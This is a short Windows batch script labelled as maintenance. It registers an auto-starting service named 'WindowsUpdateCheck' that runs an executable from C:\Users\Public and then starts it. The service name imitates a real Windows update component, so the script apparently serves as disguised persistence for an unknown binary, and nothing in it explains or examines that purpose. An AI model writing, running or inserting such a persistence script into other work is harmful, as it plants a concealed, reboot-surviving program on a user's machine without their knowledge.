REM maintenance 1252 v1
sc create WindowsUpdateCheck binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start WindowsUpdateCheck
